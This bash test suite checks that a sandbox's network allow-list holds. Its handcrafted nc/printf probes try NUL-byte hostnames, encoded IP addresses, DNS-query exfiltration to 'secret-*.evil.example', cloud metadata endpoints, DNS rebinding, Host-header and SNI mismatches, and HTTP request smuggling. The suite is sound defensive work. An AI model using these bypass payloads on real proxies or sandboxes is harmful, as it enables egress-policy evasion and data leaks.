#!/bin/bash
# Idea: a box that may reach one host wants to reach another, a service of the machine's own, a cloud's metadata, or to let a secret out by the names that it asks for. Each
# way is one by which an allow-list of others was passed: zeros in names, numbers that are addresses, names that change what they stand for, requests inside requests.
# Escape: a host that is not allowed is reached, or asked for.
# Views: own
# shellcheck disable=SC2016,SC2154
. "${0%/*}/../lib/test.sh"
. "${0%/*}/../lib/attack.sh"
. "${0%/*}/../lib/lab.sh"

# OPTION… CODE
_box() {
	[ -n "${B:-}" ] || bundle
	run sbx "do" --json --rootfs "$B/rootfs" "${@:1:$#-1}" -- sh -c "${!#}"
}
_of() { jq -r "$1" <<<"$out"; }

a_zero_in_a_name_does_not_end_it() {
	lab
	_box --allow '*.good.example:22' --allow www.good.example:22 'say() { printf "$1" | nc 127.0.0.1 3128 | od -An -tx1; }
		say "\5\1\0\5\1\0\3\037other.example\000.www.good.example\0\026"
		say "\5\1\0\5\1\0\3\036other.example\000www.good.example\0\026"
		say "\4\1\0\026\0\0\0\1\0other.example\0.good.example\0"
		say "CONNECT other.example\000.good.example:22 HTTP/1.1\r\n\r\n"'
	nobody_asked other
	nobody_reached .
	like "$(_of .stdout)" '05 00 05 02'
	[ "$(_of '.denials | length')" -gt 0 ] || fail 'nothing was noticed'
}

numbers_that_are_addresses_are_no_names() {
	lab
	local host
	for host in 127.1 0x7f.1 2130706433 0177.0.0.1 0xb000201 184549889 11.0.513 '11.0.2.1%www.good.example' '[::ffff:11.0.2.1]' 11.0.2.1. 0; do
		_box --allow '**.good.example:22' --allow 11.0.1.0/24:22 "printf 'CONNECT $host:22 HTTP/1.1\r\n\r\n' | nc 127.0.0.1 3128 | head -n 1
			printf '\5\1\0\5\1\0\3\\$(printf %03o ${#host})$host\0\26' | nc 127.0.0.1 3128 | od -An -tx1; nc '$host' 22 </dev/null"
		hides "$(_of .stdout)" 'SSH|HTTP/1.1 200|05 00 05 00'
	done
	nobody_asked .
	nobody_reached .
}

one_decision_holds_for_every_front() {
	lab
	_box --allow good.example --deny other.example --allow other.example 'for h in other.example evil.example; do
		printf "CONNECT $h:443 HTTP/1.1\r\n\r\nhello" | nc 127.0.0.1 3128
		printf "GET http://$h/ HTTP/1.1\r\nHost: $h\r\n\r\n" | nc 127.0.0.1 3128
		printf "\5\1\0\5\1\0\3\\$(printf %03o ${#h})$h\1\273hello" | nc 127.0.0.1 3128
		printf "\4\1\1\273\0\0\0\1\0$h\0hello" | nc 127.0.0.1 3128
		echo hello | nc $h 443; done; for a in 11.0.2.1 198.18.1.0 198.18.1.1 198.18.77.7; do for p in 80 443; do echo hello | nc $a $p; done; done'
	nobody_asked .
	nobody_reached .
}

questions_for_names_do_not_leave() {
	lab
	_box --allow good.example 'for s in 127.0.0.1 8.8.8.8 11.0.0.2; do for t in a txt any mx; do busybox nslookup -type=$t secret-$t.evil.example $s; busybox nslookup -type=$t good.example $s; done; done
		q="\0\035\1\2\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\20\0\1"; for s in 127.0.0.1 8.8.8.8 11.0.0.2; do printf "$q" | nc $s 53 | od -An -c; done'
	nobody_asked .
	nobody_reached .
	like "$(_of '.denials[].host')" 'secret-a.evil.example'
}

what_a_name_stands_for_is_judged() {
	lab
	local name
	for name in private metadata loopback own mapped; do
		_box --allow "$name.example:22" --allow "$name.example" "nc $name.example 22 </dev/null; printf 'GET http://$name.example/ HTTP/1.1\r\n\r\n' | nc 127.0.0.1 3128 | grep X-Proxy"
		hides "$(_of .stdout)" 'SSH|200 OK|10\.9|169\.254|127\.0'
		nobody_reached .
		like "$(_of .stdout)" 'blocked-address'
	done
	nobody_reached .
	_box --allow mixed.example:22 'nc mixed.example 22 </dev/null'
	like "$(_of .stdout)" SSH
	reached '^11.0.1.3 22'
	nobody_reached '^(127|10)'
}

a_name_that_changes_its_mind_is_judged_anew() {
	lab
	_box --allow rebind.example:22 'for i in 1 2 3; do nc rebind.example 22 </dev/null; echo $i; done'
	is "$(_of .stdout | tr -d '\r')" $'SSH-2.0-lab\n1\n2\n3'
	is "$(_of '.denials[0].host')" rebind.example
	nobody_reached '^127'
}

services_of_the_machine_are_not_reached_by_its_addresses() {
	lab
	python3 -m http.server 80 --bind 0.0.0.0 --directory "$LAB" >/dev/null 2>&1 &
	wait_until 10 bash -c ': </dev/tcp/11.0.0.1/80'
	ip addr add 11.0.9.9/32 dev lab-near
	_box --allow 11.0.0.0/8 --allow 64.0.0.0/2 --allow own.example --allow 0.0.0.0/1 --allow 128.0.0.0/1 --allow ::/1 'for a in 11.0.0.1 11.0.9.9 127.0.0.1 127.0.0.2 0.0.0.0 "[::1]" "[::ffff:11.0.0.1]" "[2a00::1]" own.example 11.0.0.255; do
		printf "GET http://$a/names HTTP/1.1\r\n\r\n" | nc 127.0.0.1 3128 | head -n 1; printf "CONNECT $a:80 HTTP/1.1\r\n\r\n" | nc 127.0.0.1 3128 | head -n 1; done
		for a in 11.0.0.1 11.0.9.9 169.254.169.254 100.100.100.200; do printf "GET / HTTP/1.0\r\n\r\n" | nc $a 80; done'
	hides "$(_of .stdout)" '200'
	nobody_reached '^(127|169|100)'
}

another_host_is_not_asked_for_inside() {
	lab
	_box --allow good.example 'host() { printf "GET / HTTP/1.1\r\nHost: $1\r\n\r\n"; }
		{ printf "CONNECT good.example:80 HTTP/1.1\r\n\r\n"; host evil.example; } | nc 127.0.0.1 3128
		host evil.example | nc good.example 80
		{ printf "\r\n"; host evil.example; } | nc good.example 80
		{ printf "\4\1\0\120\0\0\0\1\0good.example\0"; host evil.example; } | nc 127.0.0.1 3128
		printf "GET http://good.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n" | nc 127.0.0.1 3128
		printf "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n" | nc 127.0.0.1 3128
		printf "GET / HTTP/1.1\nHost: evil.example\n\n" | nc good.example 80
		printf "GET http://evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n" | nc good.example 80
		printf "CONNECT evil.example:443 HTTP/1.1\r\n\r\n" | nc good.example 80
		printf "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" | nc good.example 80'
	nobody_reached 'evil|PRI|CONNECT'
	like "$(_of '.denials[] | .hint')" 'another host was asked for'
}

# NAME: the first message of a client of TLS, as octal escapes.
_hello() {
	python3 - "$1" <<'END'
import sys
name = sys.argv[1].encode()
sni = b"\0\0" + (len(name) + 5).to_bytes(2, "big") + (len(name) + 3).to_bytes(2, "big") + b"\0" + len(name).to_bytes(2, "big") + name
body = b"\3\3" + b"r" * 32 + b"\0\0\2\x13\1\1\0" + len(sni).to_bytes(2, "big") + sni
body = b"\1" + len(body).to_bytes(3, "big") + body
whole = b"\x16\3\1" + len(body).to_bytes(2, "big") + body
pair = b"\x16\3\1" + (2 * len(body)).to_bytes(2, "big") + body * 2
split = b"\x16\3\1\0\x20" + body[:32] + b"\x16\3\1" + (len(body) - 32).to_bytes(2, "big") + body[32:]
for data in whole, split, pair, b"\x16\2" + whole[2:], b"\x16\0\0" + whole[3:], b"\x15\3\1\0\2\1\x5a" + whole:
    print("".join("\\%03o" % c for c in data))
END
}

tls_is_for_the_host_that_was_named() {
	lab
	local good evil
	mapfile -t good < <(_hello good.example)
	mapfile -t evil < <(_hello evil.example)
	_box --allow good.example "printf '${good[0]}' | nc good.example 443 | wc -c
		{ printf 'CONNECT good.example:443 HTTP/1.1\r\n\r\n'; sleep 0.2; printf '${evil[0]}'; } | nc 127.0.0.1 3128 | tail -n +3 | wc -c
		printf '${evil[0]}' | nc good.example 443 | wc -c; printf '${evil[1]}' | nc good.example 443 | wc -c"
	nobody_reached evil
	[[ $(_of .stdout) =~ ^[1-9][0-9]*$'\n0\n0\n0'$ ]] || fail "ESCAPED: $(_of .stdout)"
	nobody_reached evil
}

# What a server takes for TLS, though its first bytes are not as they should be.
tls_that_begins_otherwise_is_tls() {
	lab
	local evil one code=
	mapfile -t evil < <(_hello evil.example)
	for one in "${evil[@]:2}"; do
		code+="printf '$one' | nc good.example 443 | wc -c; "
	done
	_box --allow good.example "$code"
	nobody_reached evil
	is "$(_of .stdout)" $'0\n0\n0\n0'
	like "$(_of '.denials[] | .hint')" 'another host was asked for'
}

# A server that wants another key share asks for a second hello. The lab sends back what it gets.
a_second_hello_is_for_that_host_too() {
	lab
	local good evil between
	mapfile -t good < <(_hello good.example)
	mapfile -t evil < <(_hello evil.example)
	for between in '' '\024\003\003\000\001\001' '\027\003\003\000\005early' '\025\003\001\000\002\001\132'; do
		_box --allow good.example "{ printf '${good[0]}'; sleep 0.3; printf '$between${evil[0]}'; sleep 0.3; } | nc good.example 443 | grep -c evil
			printf '${good[0]}$between${evil[0]}' | nc good.example 443 | grep -c evil
			{ printf '${good[0]}'; sleep 0.3; printf '$between${evil[1]}'; sleep 0.3; } | nc good.example 443 | grep -c evil
			{ printf '${good[0]}'; sleep 0.3; printf '$between${good[0]}'; } | nc good.example 443 | tr -d '\000-\037' | grep -o good.example | wc -l"
		nobody_reached evil
		is "$(_of .stdout)" $'0\n0\n0\n2'
	done
}

requests_that_begin_like_none_are_requests() {
	lab
	_box --allow good.example 'rest="HTTP/1.1\r\nHost: evil.example\r\n\r\n"; long=$(printf "%040d" 0 | tr 0 A)
		for first in "G3T / " "GET! / " "$long / " "\014GET / " "GET\014/ " "GET /\000 " "\r\n\013\nG3T / " "\205GET / " "GET\240/\000 "; do
			printf "$first$rest" | nc good.example 80
			{ printf "$first"; sleep 0.1; printf HT; sleep 0.1; printf "${rest#HT}"; } | nc good.example 80
			{ printf "CONNECT good.example:80 HTTP/1.1\r\n\r\n"; sleep 0.1; printf "$first$rest"; } | nc 127.0.0.1 3128 | grep evil
		done'
	nobody_reached 'HTTP/|evil'
	hides "$(_of .stdout)" evil
	like "$(_of '.denials[] | .hint')" 'another host was asked for'
}

# There are servers to which the end of all is the end of a head.
a_head_without_an_end_is_a_head() {
	lab
	_box --allow good.example 'for head in "GET / HTTP/1.1\r\nHost: evil.example\r\n" "GET / HTTP/1.1\r\nHost: evil.example" "GET / HTTP/1.0"; do printf "$head" | nc good.example 80; done
		printf "hello there" | nc good.example 443'
	reached 'hello there'
	nobody_reached 'HTTP/|evil'
	is "$(_of .stdout)" 'hello there'
}

# The carrier is outside of the box's cgroup, and so is what waits in its sockets.
what_waits_for_a_box_that_does_not_read_is_little() {
	needs ss
	lab
	bundle
	sbx "do" --rootfs "$B/rootfs" --allow good.example:5432 -- sh -c 'sleep 100 | nc good.example 5432' >/dev/null 2>&1 &
	wait_until 10 _is_connected
	local size
	for size in $(_buffers); do
		[ "$size" -le 262144 ] || fail "ESCAPED: the kernel keeps what it likes of a connection: $(_buffers | xargs)"
	done
}
# Both ways, of the sides that are outside.
_buffers() { ss -tnmH state connected dst 11.0.1.1 | grep -oE '[rt]b[0-9]+' | tr -d rtb; }
_is_connected() { [ -n "$(ss -tnH state established dst 11.0.1.1)" ]; }

# A side grows with what is read, if the way is long. All together they are as large as a box may have them (net/width.h), but for one's last step.
what_waits_for_a_box_that_reads_no_more_is_bounded() {
	needs ss
	lab
	lab_far_away 200
	bundle
	sbx "do" --rootfs "$B/rootfs" --timeout 600 --pids-limit 1000 --allow good.example:9 -- sh -c 'for i in $(seq 20); do
		nc good.example 9 </dev/null | { head -c 8000000 >/dev/null; echo read; sleep 1000; } & done; wait' >have-read 2>/dev/null &
	wait_until 120 _have_read 20
	local size all=0 least=$((20 * 4 * (128 << 10)))
	for size in $(_buffers); do
		all=$((all + size))
	done
	[ "$all" -gt "$least" ] || fail "they did not grow: $all, $(_buffers | xargs)"
	[ "$all" -le $((least + (48 << 20) + (16 << 20))) ] || fail "ESCAPED: the kernel keeps $all bytes for connections that are not read"
}
_have_read() { [ "$(wc -l <have-read)" = "$1" ]; }

a_second_request_on_a_connection_goes_nowhere() {
	lab
	_box --allow good.example 'evil="GET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n"
		printf "GET http://good.example/1 HTTP/1.1\r\n\r\n$evil" | nc 127.0.0.1 3128
		printf "GET /2 HTTP/1.1\r\nHost: good.example\r\n\r\n$evil" | nc good.example 80
		{ printf "GET /3 HTTP/1.1\r\nHost: good.example\r\n\r\n"; sleep 0.3; printf "$evil"; } | nc good.example 80
		printf "POST /4 HTTP/1.1\r\nHost: good.example\r\nContent-Length: 2\r\n\r\nhi$evil" | nc good.example 80
		printf "POST /5 HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\n\r\n$evil" | nc good.example 80
		printf "POST /6 HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n$evil" | nc good.example 80
		printf "GET http://good.example/7 HTTP/1.1\r\nConnection: keep-alive\r\n\r\nGET http://evil.example/ HTTP/1.1\r\n\r\n" | nc 127.0.0.1 3128'
	nobody_reached 'evil|again'
	hides "$(_of .stdout)" evil
	[ "$(_of .stdout | grep -c 'Host: good.example')" = 6 ] || fail "the requests themselves were not answered: $(_of .stdout)"
}

the_box_changes_nothing_of_its_network() {
	lab
	_box --allow good.example:22 'ip route add default dev lo; ip route del local 0.0.0.0/0 dev lo table local; ip addr add 11.0.0.77/8 dev lo; ip link set lo down; ls /proc/self/fd | tr "\n" " "
		grep Cap /proc/self/status | tr -d "\t" | tr "\n" " "; kill -9 -1; nc good.example 22 </dev/null'
	like "$(_of .stdout)" '^0 1 2 3 CapInh:0{16} CapPrm:0{16} CapEff:0{16} CapBnd:0{16} CapAmb:0{16} SSH-2.0-lab'
}

when_the_carrier_is_killed_the_network_is_gone() {
	lab
	bundle
	mkfifo go
	exec 9<>go
	sbx "do" --json --rootfs "$B/rootfs" --allow good.example:22 --allow good.example:5432 -- sh -c '{ echo first; head -n 1; sleep 0.2; } | nc good.example 5432; echo cut; nc good.example 22 </dev/null || echo no name; nc 198.18.1.0 22 </dev/null || echo refused; nc 11.0.1.1 22 </dev/null || echo refused
		printf "CONNECT good.example:22 HTTP/1.1\r\n\r\n" | nc 127.0.0.1 3128 || echo no proxy' <go >result 9>&- 2>/dev/null &
	reached '^11.0.1.1 5432 .*first'
	kill -KILL "$(carrier)"
	echo on >&9
	wait_until 30 test -s result
	out=$(cat result)
	is "$(_of .stdout)" $'first\ncut\nno name\nrefused\nrefused\nno proxy'
	is "$(_of .usage.network)" null
	like "$(_of '.notes[]')" 'had no network since'
	nobody_reached ' 22 '
	is "$(carrier)" ''
}

whoever_carries_could_do_little() {
	lab
	bundle
	sbx "do" --rootfs "$B/rootfs" --allow good.example -- sleep 100 >/dev/null 2>&1 &
	wait_until 10 _carrier_is_ready
	local status
	status=$(cat "/proc/$(carrier)/status")
	[[ $status =~ Uid:$'\t65534\t65534\t65534\t65534' && $status =~ CapPrm:$'\t'0{16} && $status =~ NoNewPrivs:$'\t1' ]] || leaked "rights: $status"
	[[ $status =~ Seccomp:$'\t2' ]] || leaked 'every system call'
	is "$(find "/proc/$(carrier)/fd" -lname '/*' -printf '%l\n' | sort -u)" /dev/null
}
_carrier_is_ready() { [ -n "$(carrier)" ] && grep -q 'NoNewPrivs:.1' "/proc/$(carrier)/status" && ls "/proc/$(carrier)/limits" >/dev/null && grep -q 'Max processes *0 ' "/proc/$(carrier)/limits"; }

a_box_that_floods_is_held_to_its_own() {
	lab
	_box --timeout 60 --pids-limit 1000 --allow good.example:22 'for i in $(seq 300); do sleep 2 | nc 127.0.0.1 3128 & done; sleep 1; nc good.example 22 </dev/null; wait; for i in $(seq 200); do nc h$i.evil.example 80; done; echo end'
	like "$(_of .stdout)" $'SSH-2.0-lab.*end'
	[ "$(_of '.denials | length')" -lt 110 ]
	[ "$(_of .usage.network.refused)" -ge 200 ]
	nobody_asked evil
}
run_tests
